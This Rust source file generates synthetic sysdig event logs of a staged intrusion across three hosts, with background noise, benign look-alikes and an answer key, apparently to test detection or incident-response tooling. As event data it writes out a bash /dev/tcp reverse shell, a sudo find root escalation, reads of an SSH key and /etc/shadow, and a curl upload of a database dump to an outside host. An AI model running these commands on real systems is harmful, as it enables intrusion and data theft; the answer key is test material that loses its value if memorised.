//! A deterministic generator of the sample incident described in `shared/design/EVENTS.md`.
//!
//! Three hosts publish SysArmor-template events (`sysdig -p` output, every value a string): web-01
//! takes a web shell, opens a reverse shell, steals an SSH key and moves to app-01, which is
//! escalated to root, persisted, and used to reach db-01, whose database is dumped, archived and
//! uploaded, then cleaned up. Around the ~40 attack events sits background noise (>= 99.9 % of the
//! events) with the traps responders meet for real: benign look-alikes (`unix_chkpwd` reading
//! shadow, ansible writing cron, the nightly backup with rsync, cron-run shells), a reused PID, a
//! collector restart (`evt.num` back to 1), a 90 s collector gap, db-01's clock running 2.4 s
//! fast, ~0.1 % invalid JSON (unescaped quotes and newlines, a few truncated messages), ~0.05 %
//! duplicate publishes, and a few messages in the other shapes (worker wrapper, `sysdig -j`,
//! Falco). The same seed always gives the same bytes; [`attack_steps`] is the answer key.

use std::io::{self, Write};

use chrono::{DateTime, Duration, TimeZone, Utc};
use serde::Serialize;

/// Generator settings.
#[derive(Debug, Clone)]
pub struct Config {
    /// Number of background events.
    pub noise: u64,
    pub seed: u64,
}

/// splitmix64: small, fast, and the same on every platform.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n.max(1)
    }
    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len() as u64) as usize]
    }
    fn chance(&mut self, per_million: u64) -> bool {
        self.below(1_000_000) < per_million
    }
}

/// One event before rendering.
#[derive(Debug, Clone)]
struct Ev {
    host: &'static str,
    /// True (server-side) time of the event.
    at: DateTime<Utc>,
    evt_type: &'static str,
    args: String,
    fd: String,
    pid: u32,
    name: String,
    cmdline: String,
    ppid: u32,
    pname: String,
    pcmdline: String,
    /// Attack step id, for the answer key.
    step: Option<&'static str>,
}

/// An attack event of the answer key.
#[derive(Debug, Clone, Serialize)]
pub struct AttackStep {
    pub step: &'static str,
    pub collector_id: &'static str,
    pub evt_num: u64,
    pub proc_name: String,
    pub fd_name: String,
}

const HOSTS: [(&str, &str); 3] = [
    ("web-01", "10.0.1.10"),
    ("app-01", "10.0.2.20"),
    ("db-01", "10.0.2.30"),
];
/// db-01's clock runs ahead of the others.
const DB_SKEW_MS: i64 = 2400;

fn t0() -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2025, 7, 10, 1, 30, 0)
        .single()
        .expect("valid date")
}

fn ev(
    host: &'static str,
    at: DateTime<Utc>,
    evt_type: &'static str,
    fd: &str,
    p: (u32, &str, &str),
    pp: (u32, &str, &str),
) -> Ev {
    let args = match evt_type {
        "connect" | "accept" => format!("res=0 tuple={fd}"),
        "openat" => format!("fd=3({fd}) dirfd=-100(AT_FDCWD) name={fd} flags=1(O_RDONLY) mode=0"),
        "write" => "res=512 data=...".to_string(),
        "unlinkat" => format!("res=0 dirfd=-100(AT_FDCWD) name={fd}"),
        _ => "res=0".to_string(),
    };
    Ev {
        host,
        at,
        evt_type,
        args,
        fd: fd.to_string(),
        pid: p.0,
        name: p.1.to_string(),
        cmdline: p.2.to_string(),
        ppid: pp.0,
        pname: pp.1.to_string(),
        pcmdline: pp.2.to_string(),
        step: None,
    }
}

fn write_flags(mut e: Ev, flags: &str) -> Ev {
    e.args = format!(
        "fd=3({}) dirfd=-100(AT_FDCWD) name={} flags={flags} mode=0644",
        e.fd, e.fd
    );
    e
}

fn step(mut e: Ev, s: &'static str) -> Ev {
    e.step = Some(s);
    e
}

/// The attack, in order, with its true times.
#[rustfmt::skip]
fn attack() -> Vec<Ev> {
    let at = |m: i64, s: i64, ms: i64| {
        t0() + Duration::minutes(40 + m) + Duration::seconds(s) + Duration::milliseconds(ms)
    };
    let fpm = (1403, "php-fpm8.1", "php-fpm: pool www");
    let nginx = (1210, "nginx", "nginx: worker process");
    let shell_sh = (23011, "sh", "sh -c id");
    let rev = (
        23030,
        "bash",
        "bash -c bash -i >& /dev/tcp/203.0.113.66/4444 0>&1",
    );
    let rev_p = (23030, "bash", "bash -i");
    let mut v = vec![
        // web-01: upload of the web shell
        step(ev("web-01", at(0, 5, 120), "accept", "203.0.113.66:51514->10.0.1.10:443", nginx, (1200, "nginx", "nginx: master process /usr/sbin/nginx")), "initial_access"),
        step(write_flags(ev("web-01", at(0, 5, 480), "openat", "/var/www/html/uploads/shell.php", fpm, (1, "systemd", "/sbin/init")), "O_WRONLY|O_CREAT|O_TRUNC"), "webshell_upload"),
        step(ev("web-01", at(0, 6, 10), "write", "/var/www/html/uploads/shell.php", fpm, (1, "systemd", "/sbin/init")), "webshell_upload"),
        // discovery through the shell
        step(ev("web-01", at(1, 12, 0), "openat", "/etc/group", (23011, "id", "id"), shell_sh), "discovery"),
        step(ev("web-01", at(1, 12, 2), "openat", "/etc/passwd", (23011, "id", "id"), shell_sh), "discovery"),
        step(ev("web-01", at(1, 20, 0), "openat", "/proc/version", (23015, "uname", "uname -a"), (23014, "sh", "sh -c uname -a")), "discovery"),
        step(ev("web-01", at(1, 31, 0), "openat", "/etc/passwd", (23018, "cat", "cat /etc/passwd"), (23017, "sh", "sh -c cat /etc/passwd")), "discovery"),
        step(ev("web-01", at(1, 45, 0), "openat", "/var/www/html/config/database.php", (23021, "cat", "cat config/database.php"), (23020, "sh", "sh -c cat config/database.php")), "discovery"),
        // reverse shell
        step(ev("web-01", at(2, 41, 512), "connect", "10.0.1.10:40522->203.0.113.66:4444", rev, fpm), "reverse_shell"),
        step(ev("web-01", at(2, 41, 600), "openat", "/dev/tty", rev, fpm), "reverse_shell"),
        // key theft
        step(ev("web-01", at(4, 2, 0), "openat", "/home/deploy/.ssh/id_rsa", (23042, "cat", "cat /home/deploy/.ssh/id_rsa"), rev_p), "credential_access"),
        step(ev("web-01", at(4, 30, 0), "openat", "/home/deploy/.ssh/id_rsa", (23045, "ssh", "ssh -i /home/deploy/.ssh/id_rsa deploy@10.0.2.20"), rev_p), "lateral_movement"),
        step(ev("web-01", at(4, 30, 200), "connect", "10.0.1.10:53312->10.0.2.20:22", (23045, "ssh", "ssh -i /home/deploy/.ssh/id_rsa deploy@10.0.2.20"), rev_p), "lateral_movement"),
    ];
    let sshd_app = (31200, "sshd", "sshd: deploy [priv]");
    let deploy_bash = (31230, "bash", "-bash");
    let root_sh = (31260, "sh", "/bin/sh -p");
    let find = (31255, "find", "find . -exec /bin/sh -p ; -quit");
    v.extend([
        step(ev("app-01", at(4, 30, 230), "accept", "10.0.1.10:53312->10.0.2.20:22", (880, "sshd", "/usr/sbin/sshd -D"), (1, "systemd", "/sbin/init")), "lateral_movement"),
        step(ev("app-01", at(4, 31, 0), "openat", "/home/deploy/.bashrc", deploy_bash, sshd_app), "lateral_movement"),
        step(ev("app-01", at(6, 0, 0), "openat", "/etc/sudoers", (31250, "sudo", "sudo find . -exec /bin/sh -p ; -quit"), deploy_bash), "privilege_escalation"),
        step(ev("app-01", at(6, 0, 300), "openat", "/home/deploy", find, (31250, "sudo", "sudo find . -exec /bin/sh -p ; -quit")), "privilege_escalation"),
        step(ev("app-01", at(6, 0, 420), "openat", "/etc/ld.so.cache", root_sh, find), "privilege_escalation"),
        step(ev("app-01", at(7, 10, 0), "openat", "/etc/shadow", (31270, "cat", "cat /etc/shadow"), root_sh), "credential_access"),
        step(write_flags(ev("app-01", at(8, 0, 0), "openat", "/etc/cron.d/sysupdate", root_sh, find), "O_WRONLY|O_CREAT|O_TRUNC"), "persistence_cron"),
        step(ev("app-01", at(8, 0, 5), "write", "/etc/cron.d/sysupdate", root_sh, find), "persistence_cron"),
        step(write_flags(ev("app-01", at(8, 20, 0), "openat", "/root/.ssh/authorized_keys", root_sh, find), "O_WRONLY|O_APPEND|O_CREAT"), "persistence_ssh_key"),
        step(ev("app-01", at(8, 20, 3), "write", "/root/.ssh/authorized_keys", root_sh, find), "persistence_ssh_key"),
        step(write_flags(ev("app-01", at(8, 45, 0), "openat", "/etc/systemd/system/sysupdate.service", (31290, "tee", "tee /etc/systemd/system/sysupdate.service"), root_sh), "O_WRONLY|O_CREAT|O_TRUNC"), "persistence_systemd"),
        step(ev("app-01", at(8, 45, 4), "write", "/etc/systemd/system/sysupdate.service", (31290, "tee", "tee /etc/systemd/system/sysupdate.service"), root_sh), "persistence_systemd"),
        step(ev("app-01", at(10, 0, 0), "connect", "10.0.2.20:41822->10.0.2.30:22", (31310, "ssh", "ssh root@10.0.2.30"), root_sh), "lateral_movement"),
    ]);
    let db_bash = (44120, "bash", "-bash");
    let dump = (
        44150,
        "mysqldump",
        "mysqldump --all-databases --single-transaction",
    );
    let tar = (44160, "tar", "tar czf /tmp/.x/db.tgz /tmp/.x/db.sql");
    let curl = (
        44170,
        "curl",
        "curl -k -T /tmp/.x/db.tgz https://198.51.100.23/upload",
    );
    v.extend([
        step(ev("db-01", at(10, 0, 30), "accept", "10.0.2.20:41822->10.0.2.30:22", (910, "sshd", "/usr/sbin/sshd -D"), (1, "systemd", "/sbin/init")), "lateral_movement"),
        step(ev("db-01", at(11, 0, 0), "connect", "/run/mysqld/mysqld.sock", dump, db_bash), "collection"),
        step(write_flags(ev("db-01", at(11, 0, 100), "openat", "/tmp/.x/db.sql", dump, db_bash), "O_WRONLY|O_CREAT|O_TRUNC"), "collection"),
        step(ev("db-01", at(11, 40, 0), "write", "/tmp/.x/db.sql", dump, db_bash), "collection"),
        step(ev("db-01", at(12, 10, 0), "openat", "/tmp/.x/db.sql", tar, db_bash), "staging"),
        step(write_flags(ev("db-01", at(12, 10, 5), "openat", "/tmp/.x/db.tgz", tar, db_bash), "O_WRONLY|O_CREAT|O_TRUNC"), "staging"),
        step(ev("db-01", at(13, 0, 0), "openat", "/tmp/.x/db.tgz", curl, db_bash), "exfiltration"),
        step(ev("db-01", at(13, 0, 80), "connect", "10.0.2.30:50122->198.51.100.23:443", curl, db_bash), "exfiltration"),
        step(ev("db-01", at(13, 20, 0), "write", "10.0.2.30:50122->198.51.100.23:443", curl, db_bash), "exfiltration"),
        step(ev("db-01", at(14, 0, 0), "unlinkat", "/tmp/.x/db.sql", (44190, "rm", "rm -rf /tmp/.x"), db_bash), "defense_evasion"),
        step(ev("db-01", at(14, 0, 1), "unlinkat", "/tmp/.x/db.tgz", (44190, "rm", "rm -rf /tmp/.x"), db_bash), "defense_evasion"),
    ]);
    v
}

/// One background event on a host at a time.
fn noise_event(rng: &mut Rng, host: &'static str, ip: &str, at: DateTime<Utc>) -> Ev {
    let init = (1, "systemd", "/sbin/init");
    let cron = (640, "cron", "/usr/sbin/cron -f");
    // Benign look-alikes of attack steps, rare.
    if rng.chance(300) {
        return ev(
            host,
            at,
            "openat",
            "/etc/shadow",
            (
                5000 + rng.below(30000) as u32,
                "unix_chkpwd",
                "/sbin/unix_chkpwd deploy nullok",
            ),
            (880, "sshd", "sshd: deploy [priv]"),
        );
    }
    let r = rng.below(100);
    match (host, r) {
        ("app-01", 1) if rng.below(20) == 0 => write_flags(ev(host, at, "openat", "/etc/cron.d/ansible_logrotate", (7000 + rng.below(500) as u32, "python3", "/usr/bin/python3 /root/.ansible/tmp/AnsiballZ_cron.py"), (6990, "sh", "/bin/sh -c sudo -H -S -n -u root /bin/sh -c 'echo BECOME-SUCCESS; /usr/bin/python3'")), "O_WRONLY|O_CREAT|O_TRUNC"),
        (_, 2..=4) => ev(host, at, "openat", "/usr/local/bin/healthcheck.sh", (9000 + rng.below(20000) as u32, "sh", "/bin/sh -c /usr/local/bin/healthcheck.sh"), cron),
        ("web-01", 5..=59) => {
            let client = format!("198.18.{}.{}:{}", rng.below(200), 1 + rng.below(250), 30000 + rng.below(30000));
            if rng.below(3) == 0 {
                ev(host, at, "accept", &format!("{client}->{ip}:443"), (1210, "nginx", "nginx: worker process"), (1200, "nginx", "nginx: master process /usr/sbin/nginx"))
            } else if rng.below(2) == 0 {
                let page = rng.pick(&["index.php", "login.php", "cart.php", "search.php", "api/v1/items.php"]);
                ev(host, at, "openat", &format!("/var/www/html/{page}"), (1403 + rng.below(8) as u32, "php-fpm8.1", "php-fpm: pool www"), init)
            } else {
                let port = 30000 + rng.below(30000);
                ev(host, at, "connect", &format!("{ip}:{port}->10.0.2.30:3306"), (1403 + rng.below(8) as u32, "php-fpm8.1", "php-fpm: pool www"), init)
            }
        }
        ("app-01", 5..=59) => {
            if rng.below(2) == 0 {
                let port = 30000 + rng.below(30000);
                ev(host, at, "connect", &format!("{ip}:{port}->10.0.2.30:3306"), (2100, "java", "java -jar /opt/app/orders.jar"), init)
            } else {
                let f = rng.pick(&["/opt/app/config/application.yml", "/opt/app/logs/app.log", "/tmp/hsperfdata_app/2100"]);
                ev(host, at, "openat", f, (2100, "java", "java -jar /opt/app/orders.jar"), init)
            }
        }
        ("db-01", 5..=59) => {
            if rng.below(3) == 0 {
                let src = rng.pick(&["10.0.1.10", "10.0.2.20"]);
                ev(host, at, "accept", &format!("{src}:{}->{ip}:3306", 30000 + rng.below(30000)), (1500, "mysqld", "/usr/sbin/mysqld"), init)
            } else {
                let f = format!("/var/lib/mysql/shop/{}.ibd", rng.pick(&["orders", "customers", "items", "sessions"]));
                ev(host, at, "openat", &f, (1500, "mysqld", "/usr/sbin/mysqld"), init)
            }
        }
        (_, 60..=69) => {
            let f = format!("/var/log/journal/5f2e/system@{}.journal", rng.below(4));
            ev(host, at, "write", &f, (310, "systemd-journal", "/lib/systemd/systemd-journald"), init)
        }
        (_, 70..=74) => ev(host, at, "accept", &format!("10.0.0.5:{}->{ip}:22", 40000 + rng.below(20000)), (880, "sshd", "/usr/sbin/sshd -D"), init),
        (_, 75..=84) => {
            let f = rng.pick(&["/etc/hosts", "/etc/resolv.conf", "/etc/nsswitch.conf", "/etc/ld.so.cache"]);
            ev(host, at, "openat", f, (400 + rng.below(200) as u32, "systemd-resolve", "/lib/systemd/systemd-resolved"), init)
        }
        (_, 85..=89) => ev(host, at, "connect", &format!("{ip}:{}->10.0.0.2:53", 30000 + rng.below(30000)), (420, "systemd-resolve", "/lib/systemd/systemd-resolved"), init),
        _ => {
            let f = rng.pick(&["/proc/stat", "/proc/meminfo", "/proc/loadavg", "/sys/fs/cgroup/cpu.stat"]);
            ev(host, at, "openat", f, (720, "node_exporter", "/usr/local/bin/node_exporter"), init)
        }
    }
}

/// The nightly backup on db-01 at 02:00: a benign mysqldump, tar and rsync to the backup host.
#[rustfmt::skip]
fn nightly_backup() -> Vec<Ev> {
    let at = |s: i64| t0() + Duration::minutes(30) + Duration::seconds(s);
    let script = (52000, "backup.sh", "/bin/bash /usr/local/sbin/backup.sh");
    let dump = (
        52010,
        "mysqldump",
        "mysqldump --all-databases --single-transaction",
    );
    let tar = (
        52020,
        "tar",
        "tar czf /backup/nightly/db-2025-07-10.tgz /backup/nightly/db-2025-07-10.sql",
    );
    let rsync = (
        52030,
        "rsync",
        "rsync -a /backup/nightly/ backup@10.0.3.5::nightly",
    );
    vec![
        ev("db-01", at(0), "openat", "/usr/local/sbin/backup.sh", script, (640, "cron", "/usr/sbin/cron -f")),
        ev("db-01", at(1), "connect", "/run/mysqld/mysqld.sock", dump, script),
        write_flags(ev("db-01", at(2), "openat", "/backup/nightly/db-2025-07-10.sql", dump, script), "O_WRONLY|O_CREAT|O_TRUNC"),
        ev("db-01", at(40), "write", "/backup/nightly/db-2025-07-10.sql", dump, script),
        ev("db-01", at(70), "openat", "/backup/nightly/db-2025-07-10.sql", tar, script),
        write_flags(ev("db-01", at(71), "openat", "/backup/nightly/db-2025-07-10.tgz", tar, script), "O_WRONLY|O_CREAT|O_TRUNC"),
        ev("db-01", at(120), "connect", "10.0.2.30:48810->10.0.3.5:873", rsync, script),
        ev("db-01", at(121), "write", "10.0.2.30:48810->10.0.3.5:873", rsync, script),
    ]
}

/// Renders the SysArmor template exactly as sysdig `-p` does: no JSON escaping at all.
fn render_template(e: &Ev, evt_num: u64, event_time: DateTime<Utc>) -> String {
    format!(
        "{{\"event\":{{\"evt.num\":\"{evt_num}\",\"evt.time\":\"{}\",\"evt.type\":\"{}\",\"evt.args\":\"{}\",\"fd.name\":\"{}\",\"proc.pid\":\"{}\",\"proc.name\":\"{}\",\"proc.cmdline\":\"{}\",\"proc.ppid\":\"{}\",\"proc.pname\":\"{}\",\"proc.pcmdline\":\"{}\"}}}}",
        event_time.format("%Y-%m-%dT%H:%M:%S%.9f+0000"),
        e.evt_type,
        e.args,
        e.fd,
        e.pid,
        e.name,
        e.cmdline,
        e.ppid,
        e.pname,
        e.pcmdline
    )
}

#[derive(Serialize)]
struct PublishLine<'a> {
    subject: String,
    payload: &'a str,
}

/// All events in publish order, with their rendered payloads and the answer key.
fn build(cfg: &Config) -> (Vec<(String, String)>, Vec<AttackStep>) {
    let mut rng = Rng(cfg.seed);
    let span_ms = 2 * 3600 * 1000; // 01:30 .. 03:30
    let mut events = attack();
    events.extend(nightly_backup());
    for _ in 0..cfg.noise {
        let (host, ip) = *rng.pick(&HOSTS);
        let at = t0() + Duration::milliseconds(rng.below(span_ms) as i64);
        events.push(noise_event(&mut rng, host, ip, at));
    }
    // db-01's collector is down for 90 s: nothing from it in that window.
    let gap_from = t0() + Duration::minutes(70);
    let gap_to = gap_from + Duration::seconds(90);
    events
        .retain(|e| !(e.host == "db-01" && e.at >= gap_from && e.at < gap_to && e.step.is_none()));
    // A reused PID: a benign process held 23030 on web-01 an hour before the reverse shell.
    events.push(ev(
        "web-01",
        t0() + Duration::minutes(5),
        "openat",
        "/var/log/nginx/access.log.1",
        (
            23030,
            "logrotate",
            "/usr/sbin/logrotate /etc/logrotate.conf",
        ),
        (640, "cron", "/usr/sbin/cron -f"),
    ));
    // Shell metacharacters that break `-p` output: quotes and a newline in command lines.
    events.push(ev(
        "app-01",
        t0() + Duration::minutes(20),
        "openat",
        "/tmp/report.txt",
        (8800, "sh", "sh -c echo \"disk ok\" > /tmp/report.txt"),
        (640, "cron", "/usr/sbin/cron -f"),
    ));
    events.sort_by_key(|e| e.at);

    let restart_at = t0() + Duration::minutes(75);
    let mut evt_nums = [1000u64, 5000, 9000];
    let mut restarted = false;
    let mut out = Vec::with_capacity(events.len() + events.len() / 1000);
    let mut key = Vec::new();
    for e in &events {
        let h = HOSTS
            .iter()
            .position(|(n, _)| *n == e.host)
            .expect("known host");
        // app-01's collector restarts: evt.num starts again at 1.
        if h == 1 && !restarted && e.at >= restart_at {
            evt_nums[1] = 0;
            restarted = true;
        }
        evt_nums[h] += 1 + rng.below(3);
        let skew = if e.host == "db-01" {
            Duration::milliseconds(DB_SKEW_MS)
        } else {
            Duration::zero()
        };
        let event_time = e.at + skew + Duration::nanoseconds(rng.below(1_000_000) as i64);
        let mut payload = render_template(e, evt_nums[h], event_time);
        if let Some(s) = e.step {
            key.push(AttackStep {
                step: s,
                collector_id: e.host,
                evt_num: evt_nums[h],
                proc_name: e.name.clone(),
                fd_name: e.fd.clone(),
            });
        } else if rng.chance(800) {
            // An unescaped quote inside a command line (repairable).
            payload = payload.replacen(
                "\"proc.cmdline\":\"",
                "\"proc.cmdline\":\"sh -c \"quoted\" ",
                1,
            );
        } else if rng.chance(150) {
            // A newline inside the arguments (repairable).
            payload = payload.replacen("res=", "res=\n", 1);
        } else if rng.chance(100) {
            // A message truncated in transit (not repairable).
            payload.truncate(payload.len() / 2);
        }
        let subject = format!("events.sysdig.{}", e.host);
        if e.step.is_none() && rng.chance(300) {
            // A worker re-published the event in its wrapper shape.
            let wrapped = serde_json::json!({"raw_data": payload, "collector_id": e.host, "hostname": format!("{}.prod.example", e.host)});
            out.push((subject.clone(), wrapped.to_string()));
            continue;
        }
        if e.step.is_none() && rng.chance(500) {
            // A duplicate publish: same payload under two stream sequences.
            out.push((subject.clone(), payload.clone()));
        }
        out.push((subject, payload));
    }
    // A Falco alert about the shadow read, and a plain `sysdig -j` event, as other producers send them.
    let falco = serde_json::json!({
        "time": "2025-07-10T02:17:10.000000000Z", "rule": "Read sensitive file untrusted",
        "priority": "Warning", "source": "syscall", "hostname": "app-01",
        "output": "Sensitive file opened for reading by non-trusted program (file=/etc/shadow)",
        "tags": ["filesystem", "mitre_credential_access"],
        "output_fields": {"proc.name": "cat", "proc.cmdline": "cat /etc/shadow", "proc.pid": 31270, "fd.name": "/etc/shadow"}
    });
    out.push(("events.sysdig.app-01".into(), falco.to_string()));
    let flat = serde_json::json!({"evt.num": 77, "evt.time": 1_752_112_800_000_000_000i64, "evt.type": "openat", "fd.name": "/etc/hosts", "proc.pid": 410, "proc.name": "systemd-resolve"});
    out.push(("events.sysdig.web-01".into(), flat.to_string()));
    (out, key)
}

/// Writes the sample as NDJSON publish lines; returns the number of lines.
pub fn write_ndjson(cfg: &Config, w: &mut dyn Write) -> io::Result<u64> {
    let (lines, _) = build(cfg);
    for (subject, payload) in &lines {
        serde_json::to_writer(
            &mut *w,
            &PublishLine {
                subject: subject.clone(),
                payload,
            },
        )?;
        w.write_all(b"\n")?;
    }
    Ok(lines.len() as u64)
}

/// The answer key: every attack event with its collector and `evt.num`.
pub fn attack_steps(cfg: &Config) -> Vec<AttackStep> {
    build(cfg).1
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lake::decode::{decode, Status};

    #[test]
    fn deterministic_and_mostly_noise() {
        let cfg = Config {
            noise: 50_000,
            seed: 7,
        };
        let (a, key) = build(&cfg);
        let (b, _) = build(&cfg);
        assert_eq!(a, b);
        assert!(key.len() >= 35 && key.len() <= 45, "{}", key.len());
        assert!((key.len() as f64) / (a.len() as f64) < 0.001);
        let statuses: Vec<Status> = a.iter().map(|(_, p)| decode(p.as_bytes()).status).collect();
        let invalid = statuses.iter().filter(|s| **s == Status::Invalid).count();
        let repaired = statuses.iter().filter(|s| **s == Status::Repaired).count();
        assert!(
            invalid > 0 && repaired > 0,
            "invalid {invalid} repaired {repaired}"
        );
    }
}
